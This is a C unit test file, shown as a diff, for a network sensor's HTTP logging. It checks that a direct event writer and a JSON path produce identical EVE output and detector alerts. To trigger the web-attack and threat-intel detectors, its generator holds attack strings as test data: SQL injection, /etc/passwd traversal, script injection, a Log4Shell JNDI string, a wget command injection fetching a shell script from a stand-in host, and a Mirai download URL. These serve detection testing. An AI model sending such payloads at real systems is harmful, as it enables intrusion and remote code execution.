@@ -1,0 +1,575 @@
+/* SPDX-License-Identifier: Apache-2.0
+ * HTTP events without a jansson object (eve-http.c) against the JSON path
+ * they replace, byte for byte:
+ *   - the line: random and crafted requests and responses go through the
+ *     real decoder; for each message the direct line (written from the
+ *     typed event into one EVE writer) must equal the line the writer makes
+ *     of the decoder's JSON event (into another), and the facts must say
+ *     what the JSON facts say. Fields carry control bytes, quotes,
+ *     backslashes, DEL, valid and broken UTF-8, lengths around the 4096-byte
+ *     cut and up to the 16 KiB header limit, or are missing; headers vary
+ *     (IPv4/IPv6, VLAN tags, with and without a flow, pcap_cnt 0, flow ids
+ *     with the top bit, times across the years);
+ *   - the sensor: two sensors given the same HTTP conversations (attacks and
+ *     listed hosts among them, so the web-attack and intel detectors raise
+ *     alerts from the stand-in, and user agents reach the inventory), one
+ *     taking the direct path and one kept on the JSON path, must write the
+ *     same EVE file. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <cmocka.h>
+
+#include <netinet/in.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#include "../test-rand.h"
+#include "core/error.h"
+#include "pktbuild.h"
+#include "sensor/eve-http.h"
+#include "sensor/flow.h"
+#include "sensor/intel/intel.h"
+#include "sensor/sensor-int.h"
+
+extern const struct mm_app_decoder mm_app_http;
+
+static uint64_t rng;
+
+static uint64_t rnd(uint64_t n)
+{
+    return test_xorshift(&rng) % n;
+}
+
+static char *read_file(const char *path, size_t *len)
+{
+    FILE *f = fopen(path, "rb");
+    assert_non_null(f);
+    fseek(f, 0, SEEK_END);
+    long n = ftell(f);
+    fseek(f, 0, SEEK_SET);
+    char *b = malloc((size_t)n + 1);
+    assert_non_null(b);
+    assert_int_equal(fread(b, 1, (size_t)n, f), (size_t)n);
+    fclose(f);
+    b[n] = '\0';
+    *len = (size_t)n;
+    return b;
+}
+
+/* Fails with the first differing line of two files. */
+static void expect_same_files(const char *a, const char *b, size_t *lines)
+{
+    size_t na, nb;
+    char *x = read_file(a, &na), *y = read_file(b, &nb);
+    *lines = 0;
+    for (size_t i = 0; i < na; i++)
+        *lines += x[i] == '\n';
+    if (na != nb || memcmp(x, y, na) != 0) {
+        size_t i = 0;
+        while (i < na && i < nb && x[i] == y[i])
+            i++;
+        size_t start = i;
+        while (start > 0 && x[start - 1] != '\n')
+            start--;
+        fail_msg("differ at byte %zu:\n JSON:   %.400s\n direct: %.400s", i, x + start, y + start);
+    }
+    free(x);
+    free(y);
+}
+
+/* ---- random messages ------------------------------------------------------------ */
+
+/* A field value: plain text mostly, else odd bytes of every kind, lengths
+ * around the 4096-byte cut. Never CR or LF (they end the header line). */
+static size_t gen_value(char *out, size_t max)
+{
+    static const char *const odd[] = {"\"",
+                                      "\\",
+                                      "\x01",
+                                      "\x7f",
+                                      "\t",
+                                      "\xc3\xa9",
+                                      "\xe3\x81\x82",
+                                      "\xf0\x9f\x98\x80",
+                                      "\xff",
+                                      "\xc3",
+                                      "\xe3\x81",
+                                      "\xed\xa0\x80",
+                                      "\x1b[0m",
+                                      "\b\f",
+                                      "/",
+                                      "<script>",
+                                      "%00",
+                                      " "};
+    static const size_t lengths[] = {0, 1, 7, 15, 16, 17, 100, 1000, 4095, 4096, 4097, 5000};
+    size_t want = rnd(4) ? rnd(60) : lengths[rnd(sizeof lengths / sizeof lengths[0])];
+    bool plain = rnd(3) == 0;
+    size_t n = 0;
+    if (want > max)
+        want = max;
+    while (n < want) {
+        const char *piece =
+            plain || rnd(4) ? "abcXYZ019-._~:/?=&" + rnd(18) : odd[rnd(sizeof odd / sizeof odd[0])];
+        size_t k = plain || strlen(piece) == 0 ? 1 : strlen(piece);
+        if (n + k > want)
+            break;
+        memcpy(out + n, piece, k);
+        n += k;
+    }
+    return n;
+}
+
+static size_t put(char *out, size_t at, const char *s)
+{
+    size_t n = strlen(s);
+    memcpy(out + at, s, n);
+    return at + n;
+}
+
+/* A header line "Name: value\r\n" with a random value, sometimes. */
+static size_t gen_header(char *out, size_t at, size_t cap, const char *name)
+{
+    if (rnd(5) == 0 || at + 6000 > cap)
+        return at;
+    at = put(out, at, name);
+    at = put(out, at, rnd(4) ? ": " : ":\t ");
+    at += gen_value(out + at, 5000);
+    return put(out, at, rnd(8) ? "\r\n" : "\n");
+}
+
+static size_t gen_request(char *out, size_t cap)
+{
+    static const char *const methods[] = {"GET", "POST", "HEAD", "PUT", "OPTIONS", "PROPFIND"};
+    static const char *const hosts[] = {
+        "Example.COM", "a.example:8080",   "[2001:db8::1]:80",   "[2001:db8::2]",
+        "203.0.113.9", "Bad\x01Host.\xff", "h\xc3\xa9t.example", ""};
+    size_t at = put(out, 0, methods[rnd(sizeof methods / sizeof methods[0])]);
+    at = put(out, at, " ");
+    at += gen_value(out + at, 5000);
+    if (rnd(6))
+        at = put(out, at, rnd(3) ? " HTTP/1.1" : " HTTP/1.0 extra");
+    at = put(out, at, "\r\n");
+    if (rnd(5)) {
+        at = put(out, at, rnd(2) ? "Host: " : "HOST:");
+        at = put(out, at, rnd(3) ? hosts[rnd(sizeof hosts / sizeof hosts[0])] : "");
+        if (rnd(4) == 0)
+            at += gen_value(out + at, 1500);
+        at = put(out, at, "\r\n");
+    }
+    at = gen_header(out, at, cap, rnd(2) ? "User-Agent" : "user-agent");
+    at = gen_header(out, at, cap, "Referer");
+    at = gen_header(out, at, cap, "X-Other");
+    return put(out, at, "\r\n");
+}
+
+static size_t gen_response(char *out, size_t cap)
+{
+    static const char *const lines[] = {"HTTP/1.1 200 OK",       "HTTP/1.0 404 Not Found",
+                                        "HTTP/1.1 304 x",        "HTTP/1.1 204 ",
+                                        "HTTP/1.1 100 Continue", "HTTP/1.1 500"};
+    size_t at = put(out, 0, lines[rnd(sizeof lines / sizeof lines[0])]);
+    at = put(out, at, "\r\n");
+    at = gen_header(out, at, cap, "Content-Type");
+    if (rnd(3)) {
+        char len[32];
+        snprintf(len, sizeof len, "Content-Length: %llu\r\n",
+                 rnd(3) ? 0ULL : (unsigned long long)rnd(1000000000000ULL));
+        at = put(out, at, len);
+    }
+    return put(out, at, "\r\n");
+}
+
+/* ---- the line against the JSON path ------------------------------------------------ */
+
+struct line_run {
+    struct mm_eve_out *json_out, *direct_out;
+    struct mm__http_facts facts; /* the direct path's */
+    bool facts_set;
+    unsigned lines;
+};
+
+static struct line_run *line_run;
+
+/* The decoder's direct hook: writes the direct line and notes its facts,
+ * then declines, so the decoder emits the JSON event too. */
+static bool write_direct(struct mm_app_ctx *ctx, const struct mm__http_message *m)
+{
+    struct mm__http_event e;
+    mm__http_event_fill(&e, ctx, m);
+    memset(&line_run->facts, 0, sizeof line_run->facts);
+    mm__http_event_facts(&e, &line_run->facts);
+    line_run->facts_set = true;
+    assert_int_equal(mm__http_line_write(line_run->direct_out, &e), 0);
+    return false;
+}
+
+static void expect_same_text(const char *a, const char *b)
+{
+    assert_int_equal(a != NULL, b != NULL);
+    if (a)
+        assert_string_equal(a, b);
+}
+
+static void on_json(struct mm_app_ctx *ctx, json_t *ev)
+{
+    (void)ctx;
+    const struct mm__http_facts *hf = mm__http_facts_of(json_object_get(ev, "http"));
+    const struct mm__http_facts *d = &line_run->facts;
+    assert_non_null(hf);
+    assert_true(line_run->facts_set);
+    assert_int_equal(d->response, hf->response);
+    expect_same_text(d->url, hf->url);
+    expect_same_text(d->hostname, hf->hostname);
+    expect_same_text(d->method, hf->method);
+    expect_same_text(d->user_agent, hf->user_agent);
+    assert_int_equal(d->has_src, hf->has_src);
+    assert_memory_equal(&d->src, &hf->src, sizeof d->src);
+    line_run->facts_set = false;
+    assert_int_equal(mm_eve_out_write(line_run->json_out, ev), 0);
+    line_run->lines++;
+    json_decref(ev);
+}
+
+static void random_addr(struct mm_addr *a, bool v6)
+{
+    memset(a, 0, sizeof *a);
+    a->family = v6 ? 6 : 4;
+    for (int i = 0; i < (v6 ? 16 : 4); i++)
+        a->bytes[i] = (uint8_t)rnd(256);
+    if (v6 && rnd(2))
+        memset(a->bytes + 2, 0, 10); /* runs of zeros: "::" */
+}
+
+/* The packet and (perhaps) flow of one message, at random. */
+static void random_context(struct mm_packet *p, struct mm_flow *f, bool *with_flow)
+{
+    static const int64_t secs[] = {0, 1775001600, 1, 253402300799, 946684799, 2147483648};
+    bool v6 = rnd(3) == 0;
+    memset(p, 0, sizeof *p);
+    memset(f, 0, sizeof *f);
+    p->ts.tv_sec = (time_t)(rnd(2) ? secs[rnd(6)] : (int64_t)rnd(4000000000ULL));
+    p->ts.tv_usec = (suseconds_t)rnd(1000000);
+    p->num = rnd(4) ? rnd(1ULL << 40) : 0;
+    p->ip_version = v6 ? 6 : 4;
+    p->ip_proto = IPPROTO_TCP;
+    random_addr(&p->src, v6);
+    random_addr(&p->dst, v6);
+    p->sport = (uint16_t)rnd(65536);
+    p->dport = (uint16_t)rnd(65536);
+    p->vlan_count = (uint8_t)rnd(3);
+    p->vlan[0] = (uint16_t)rnd(4096);
+    p->vlan[1] = (uint16_t)rnd(4096);
+    *with_flow = rnd(4) != 0;
+    f->id = rnd(2) ? test_xorshift(&rng) : rnd(1000);
+    if (rnd(5))
+        snprintf(f->community_id, sizeof f->community_id,
+                 "1:%026llu==", (unsigned long long)rnd(1000000000000ULL));
+}
+
+/* One message through the decoder, both ways. */
+static void run_message(const char *msg, size_t n, bool response)
+{
+    struct mm_packet p;
+    struct mm_flow f;
+    bool with_flow;
+    void *state = NULL;
+    random_context(&p, &f, &with_flow);
+    struct mm_app_ctx ctx = {
+        .sensor = (struct mm_sensor *)&f, /* any non-NULL pointer: the hook is asked */
+        .pkt = &p,
+        .flow = with_flow ? &f : NULL,
+        .state = &state,
+        .dir = response,
+        .emit = on_json,
+    };
+    long r = mm_app_http.parse(&ctx, (const uint8_t *)msg, n);
+    assert_true(r >= 0 || r == MM_ETOOBIG); /* a header block past 16 KiB: no event */
+    mm_app_http.state_free(state);
+}
+
+static void test_line_equals_json(void **state)
+{
+    (void)state;
+    char dir[] = "/tmp/mm-test-eve-http-XXXXXX", a[64], b[64];
+    assert_non_null(mkdtemp(dir));
+    snprintf(a, sizeof a, "%s/json", dir);
+    snprintf(b, sizeof b, "%s/direct", dir);
+    struct line_run run = {0};
+    line_run = &run;
+    assert_int_equal(mm_eve_out_open(a, 0, 1, &run.json_out), 0);
+    assert_int_equal(mm_eve_out_open(b, 0, 1, &run.direct_out), 0);
+    mm__http_direct = write_direct;
+    static char msg[20000];
+    rng = 0x9e3779b97f4a7c15ULL;
+    for (unsigned i = 0; i < 4000; i++) {
+        bool response = rnd(3) == 0;
+        size_t n = response ? gen_response(msg, sizeof msg) : gen_request(msg, sizeof msg);
+        run_message(msg, n, response);
+    }
+    mm__http_direct = NULL;
+    assert_int_equal(mm_eve_out_close(run.json_out), 0);
+    assert_int_equal(mm_eve_out_close(run.direct_out), 0);
+    size_t lines;
+    expect_same_files(a, b, &lines);
+    assert_int_equal(lines, run.lines);
+    assert_true(lines > 3500); /* a few messages pass the 16 KiB header limit */
+    unlink(a);
+    unlink(b);
+    rmdir(dir);
+}
+
+/* ---- two sensors: direct and JSON ---------------------------------------------------- */
+
+#define FEED                                                                                       \
+    "evil.example\n"                                                                               \
+    "203.0.113.66\n"                                                                               \
+    "http://dl.example/mirai.x86\n"
+
+struct sensor_run {
+    char eve[96];
+    struct mm_sensor_options opt;
+    struct mm_sensor *s;
+};
+
+static void sensor_open(struct sensor_run *r, const char *dir, const char *name, const char *ini)
+{
+    snprintf(r->eve, sizeof r->eve, "%s/%s", dir, name);
+    char *argv[] = {"mamori-sensor",
+                    "-r",
+                    "none.pcap",
+                    "--eve",
+                    r->eve,
+                    "--home-net",
+                    "192.168.0.0/16,2001:db8::/32",
+                    "--config",
+                    (char *)ini,
+                    NULL};
+    memset(&r->opt, 0, sizeof r->opt);
+    assert_int_equal(mm__options_parse(9, argv, &r->opt), 0);
+    char err[256];
+    assert_int_equal(mm__sensor_new(&r->opt, NULL, &r->s, err, sizeof err), 0);
+}
+
+static struct mm_intel *intel_of(const char *dir)
+{
+    char feed[96];
+    snprintf(feed, sizeof feed, "%s/feed.txt", dir);
+    FILE *f = fopen(feed, "w");
+    assert_non_null(f);
+    fputs(FEED, f);
+    fclose(f);
+    struct mm_intel *in = NULL;
+    assert_int_equal(mm_intel_new(&in), 0);
+    assert_int_equal(mm_intel_load(in, feed, NULL, NULL), 0);
+    assert_int_equal(mm_intel_seal(in), 0);
+    return in;
+}
+
+static void sensor_close(struct sensor_run *r)
+{
+    mm_intel_free(mm__sensor_swap_intel(r->s, NULL));
+    mm__sensor_free(r->s);
+    mm__options_free(&r->opt);
+}
+
+/* One TCP segment with payload from a to b (ports, seq) at time t. */
+struct endpoint {
+    struct mm_addr addr;
+    uint16_t port;
+    uint8_t mac[6];
+};
+
+static void send_segment(struct mm_sensor *s, const struct endpoint *a, const struct endpoint *b,
+                         uint32_t seq, uint16_t vlan, double t, const char *payload, size_t n)
+{
+    struct pkt k = {0};
+    pk_eth(&k, a->mac, b->mac, vlan ? 0x8100 : a->addr.family == 4 ? 0x0800 : 0x86dd);
+    if (vlan) {
+        pk_u16(&k, vlan);
+        pk_u16(&k, a->addr.family == 4 ? 0x0800 : 0x86dd);
+    }
+    size_t ip = a->addr.family == 4 ? pk_ipv4(&k, a->addr.bytes, b->addr.bytes, 6, 0)
+                                    : pk_ipv6(&k, a->addr.bytes, b->addr.bytes, 6);
+    pk_tcp(&k, a->port, b->port, seq, 1, 0x18, NULL, 0, payload, n);
+    if (a->addr.family == 4)
+        pk_ipv4_done(&k, ip);
+    else
+        pk_ipv6_done(&k, ip);
+    struct timeval ts = {.tv_sec = (time_t)t,
+                         .tv_usec = (suseconds_t)((t - (double)(time_t)t) * 1e6)};
+    mm__pipeline_packet(s, &ts, k.b, (uint32_t)k.len, (uint32_t)k.len, 1);
+}
+
+/* A request the detectors care about, at random: attacks, scanners'
+ * agents, listed hosts and URLs, and odd bytes. */
+static size_t gen_sensor_request(char *out, size_t cap)
+{
+    static const char *const urls[] = {"/",
+                                       "/x?id=1+union+select+1",
+                                       "/../../etc/passwd",
+                                       "/a?q=%3Cscript%3E",
+                                       "/mirai.x86",
+                                       "/p/%u",
+                                       "/cgi-bin/;wget%20http://x/y.sh",
+                                       "/img/a.png"};
+    static const char *const hosts[] = {"evil.example", "Evil.Example:8080", "203.0.113.66",
+                                        "dl.example",   "ok.example",        NULL};
+    static const char *const agents[] = {"Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+                                         "sqlmap/1.7",
+                                         "Nikto/2.5",
+                                         "${jndi:ldap://x/a}",
+                                         "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X)",
+                                         NULL};
+    const char *url = urls[rnd(sizeof urls / sizeof urls[0])];
+    const char *host = hosts[rnd(sizeof hosts / sizeof hosts[0])];
+    const char *ua = agents[rnd(sizeof agents / sizeof agents[0])];
+    char path[64];
+    if (strcmp(url, "/p/%u") == 0) { /* many distinct paths: the web scan */
+        snprintf(path, sizeof path, "/p/%u", (unsigned)rnd(40));
+        url = path;
+    }
+    size_t at = put(out, 0, rnd(4) ? "GET " : "POST ");
+    at = put(out, at, url);
+    if (rnd(5) == 0)
+        at += gen_value(out + at, 200);
+    at = put(out, at, " HTTP/1.1\r\n");
+    if (host) {
+        at = put(out, at, "Host: ");
+        at = put(out, at, host);
+        at = put(out, at, "\r\n");
+    }
+    if (ua) {
+        at = put(out, at, "User-Agent: ");
+        at = put(out, at, ua);
+        if (rnd(5) == 0)
+            at += gen_value(out + at, 200);
+        at = put(out, at, "\r\n");
+    }
+    (void)cap;
+    return put(out, at, "\r\n");
+}
+
+static void random_endpoint(struct endpoint *e, bool client, bool v6)
+{
+    static const char *const v4[] = {"192.168.1.5", "192.168.1.6", "10.9.8.7", "198.51.100.7"};
+    static const char *const v6s[] = {"2001:db8::5", "fd00::5", "2001:db9::7"};
+    if (client)
+        mm_addr_parse(v6 ? v6s[rnd(3)] : v4[rnd(4)], &e->addr);
+    else
+        mm_addr_parse(v6 ? "2001:db8:ffff::80" : rnd(3) ? "203.0.113.66" : "192.0.2.80", &e->addr);
+    e->port = client ? (uint16_t)(20000 + rnd(40000)) : 80;
+    uint8_t mac[6] = {2, 0, 0, 0, e->addr.bytes[3], e->addr.bytes[15]};
+    memcpy(e->mac, mac, 6);
+}
+
+/* The same conversation to both sensors: a request, sometimes a second one
+ * on the same flow, a response. */
+static void conversation(struct sensor_run *runs, double t)
+{
+    struct endpoint c, srv;
+    bool v6 = rnd(4) == 0;
+    uint16_t vlan = rnd(5) == 0 ? (uint16_t)(1 + rnd(4000)) : 0;
+    char msg[3000], resp[6000];
+    random_endpoint(&c, true, v6);
+    random_endpoint(&srv, false, v6);
+    size_t n = gen_sensor_request(msg, sizeof msg);
+    size_t rn = gen_response(resp, sizeof resp);
+    bool second = rnd(3) == 0;
+    for (int k = 0; k < 2; k++) {
+        struct mm_sensor *s = runs[k].s;
+        send_segment(s, &c, &srv, 1000, vlan, t, msg, n);
+        if (second)
+            send_segment(s, &c, &srv, 1000 + (uint32_t)n, vlan, t + 0.1, msg, n);
+        if (rn < 1400)
+            send_segment(s, &srv, &c, 7000, vlan, t + 0.2, resp, rn);
+    }
+}
+
+/* The lines of an EVE file but its stats records (they hold run times). */
+static char *eve_without_stats(const char *path)
+{
+    size_t n;
+    char *text = read_file(path, &n), *out = malloc(n + 1), *o = out;
+    assert_non_null(out);
+    for (char *line = text, *nl; *line; line = nl + 1) {
+        nl = strchr(line, '\n');
+        assert_non_null(nl);
+        if (!memmem(line, (size_t)(nl - line), "\"event_type\":\"stats\"", 20)) {
+            memcpy(o, line, (size_t)(nl - line) + 1);
+            o += nl - line + 1;
+        }
+    }
+    *o = '\0';
+    free(text);
+    return out;
+}
+
+static size_t count_of(const char *text, const char *needle)
+{
+    size_t k = 0;
+    for (const char *p = text; (p = strstr(p, needle)) != NULL; p++)
+        k++;
+    return k;
+}
+
+static void test_sensor_direct_equals_json(void **state)
+{
+    (void)state;
+    char dir[] = "/tmp/mm-test-eve-http-XXXXXX", ini[64];
+    assert_non_null(mkdtemp(dir));
+    snprintf(ini, sizeof ini, "%s/s.ini", dir);
+    FILE *f = fopen(ini, "w");
+    assert_non_null(f);
+    fputs("[detect.web-attack]\nsuppress_seconds = 0\nscan_sources = any\npaths = 3\n"
+          "[detect.intel]\nsuppress_seconds = 0\n",
+          f);
+    fclose(f);
+    struct sensor_run runs[2];
+    sensor_open(&runs[0], dir, "direct.json", ini);
+    sensor_open(&runs[1], dir, "json.json", ini);
+    assert_true(runs[0].s->direct->http);
+    runs[1].s->direct->http = false; /* the reference: every event as JSON */
+    for (int k = 0; k < 2; k++)
+        assert_null(mm__sensor_swap_intel(runs[k].s, intel_of(dir)));
+    rng = 77;
+    for (unsigned i = 0; i < 1500; i++)
+        conversation(runs, 1775001600.0 + i * 0.7);
+    assert_true(runs[0].s->direct->http_events > 2000);
+    assert_int_equal(runs[1].s->direct->http_events, 0);
+    sensor_close(&runs[0]);
+    sensor_close(&runs[1]);
+    char *a = eve_without_stats(runs[0].eve), *b = eve_without_stats(runs[1].eve);
+    if (strcmp(a, b) != 0) {
+        size_t i = 0;
+        while (a[i] == b[i])
+            i++;
+        while (i > 0 && a[i - 1] != '\n')
+            i--;
+        fail_msg("differ:\n direct: %.600s\n JSON:   %.600s", a + i, b + i);
+    }
+    /* the test means something: HTTP events, alerts from both detectors */
+    assert_true(count_of(a, "\"event_type\":\"http\"") > 2000);
+    assert_true(count_of(a, "\"detector\":\"web-attack\"") > 50);
+    assert_true(count_of(a, "\"detector\":\"intel\"") > 50);
+    assert_true(count_of(a, "\"vlan\":[") > 100);
+    free(a);
+    free(b);
+    unlink(runs[0].eve);
+    unlink(runs[1].eve);
+    char cmd[128];
+    snprintf(cmd, sizeof cmd, "rm -rf '%s'", dir);
+    assert_int_equal(system(cmd), 0);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_line_equals_json),
+        cmocka_unit_test(test_sensor_direct_equals_json),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
